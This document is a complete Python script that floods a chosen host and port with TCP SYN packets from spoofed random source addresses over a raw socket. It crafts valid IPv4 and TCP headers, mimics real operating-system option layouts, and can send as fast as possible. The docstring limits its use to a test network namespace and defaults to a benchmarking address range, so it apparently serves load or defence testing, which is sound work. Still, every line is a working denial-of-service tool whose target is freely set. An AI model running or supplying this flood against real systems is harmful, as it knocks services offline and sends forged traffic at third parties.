#!/usr/bin/env python3
"""A SYN flood from spoofed sources, python3 standard library only.

Sends TCP SYNs to DST:PORT through a raw socket (AF_INET, SOCK_RAW,
IPPROTO_RAW, which implies IP_HDRINCL: we write the IPv4 header ourselves)
from random source addresses in SRC_NET (default 198.18.0.0/15, the RFC 2544
benchmarking range, which routes back nowhere) and random source ports, with
correct IPv4 and TCP checksums. Every SYN carries an MSS option; the others
rotate through the layouts real stacks send (Linux: MSS, SACK permitted,
timestamps, window scale; Windows-like: MSS, NOP, WS, NOP, NOP, SACK
permitted; MSS and SACK permitted only; MSS only).

Runs until COUNT SYNs are sent, DURATION seconds pass, or SIGINT/SIGTERM,
at RATE SYNs per second (0: as fast as python manages). Prints "sent N" lines
(every PROGRESS seconds) to stdout while it runs, then one summary line:
    done sent=N errors=E seconds=S rate=R
Run it only inside a network namespace made for the test: the packets are
spoofed.

usage: syn_flood.py --dst A --port P [--rate R] [--count N] [--duration S]
                    [--src-net CIDR] [--seed N] [--progress S]
"""
import argparse
import ipaddress
import random
import signal
import socket
import struct
import sys
import time

stop = False


def on_signal(signo, frame):
    global stop
    stop = True


def csum(data):
    """RFC 1071 Internet checksum of data."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def options(kind, rnd):
    mss = struct.pack("!BBH", 2, 4, rnd.choice((1460, 1400, 536, 1220)))
    if kind == 0:  # MSS only
        return mss
    if kind == 1:  # Linux: MSS, SACK_PERM, TS, NOP, WS
        ts = struct.pack("!BBII", 8, 10, rnd.getrandbits(32), 0)
        return mss + b"\x04\x02" + ts + b"\x01\x03\x03" + bytes([rnd.randrange(0, 15)])
    if kind == 2:  # Windows-like: MSS, NOP, WS, NOP, NOP, SACK_PERM
        return mss + b"\x01\x03\x03" + bytes([rnd.randrange(0, 15)]) + b"\x01\x01\x04\x02"
    return mss + b"\x01\x01\x04\x02"  # MSS, NOP, NOP, SACK_PERM


def syn(rnd, src, dst, dport, kind):
    opts = options(kind, rnd)
    assert len(opts) % 4 == 0
    sport = rnd.randrange(1024, 65536)
    thl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, rnd.getrandbits(32), 0,
                      (thl // 4) << 4, 0x02, rnd.choice((64240, 65535, 29200, 8192)),
                      0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, rnd.getrandbits(16), 0x4000,
                     64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    p = argparse.ArgumentParser(description="spoofed SYN flood (stdlib only)")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--rate", type=float, default=5000, help="SYNs/s, 0 = flat out")
    p.add_argument("--count", type=int, default=0, help="0 = no limit")
    p.add_argument("--duration", type=float, default=0, help="seconds, 0 = no limit")
    p.add_argument("--src-net", default="198.18.0.0/15")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--progress", type=float, default=0.5)
    a = p.parse_args()

    net = ipaddress.IPv4Network(a.src_net)
    base, size = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(a.dst)
    rnd = random.Random(a.seed)
    signal.signal(signal.SIGINT, on_signal)
    signal.signal(signal.SIGTERM, on_signal)

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    # a full TUN queue drops silently (the device's TX dropped counter,
    # IpOutDiscards), so sendto does not block; a big buffer keeps it so
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)

    sent = errors = 0
    t0 = time.monotonic()
    next_progress = t0 + a.progress
    batch = 64 if a.rate == 0 else max(1, min(64, int(a.rate / 1000)))
    addr = (a.dst, 0)
    while not stop:
        now = time.monotonic()
        if a.duration and now - t0 >= a.duration:
            break
        if a.count and sent >= a.count:
            break
        if now >= next_progress:
            print("sent %d" % sent, flush=True)
            next_progress += a.progress
        if a.rate:
            ahead = sent / a.rate - (now - t0)
            if ahead > 0:
                time.sleep(min(ahead, 0.01))
                continue
        n = batch if not a.count else min(batch, a.count - sent)
        for _ in range(n):
            src = struct.pack("!I", base + 1 + rnd.randrange(size - 2))
            pkt = syn(rnd, src, dst, a.port, sent % 4)
            try:
                s.sendto(pkt, addr)
            except OSError:
                errors += 1
            sent += 1
    secs = time.monotonic() - t0
    print("done sent=%d errors=%d seconds=%.2f rate=%.0f"
          % (sent, errors, secs, sent / secs if secs > 0 else 0), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
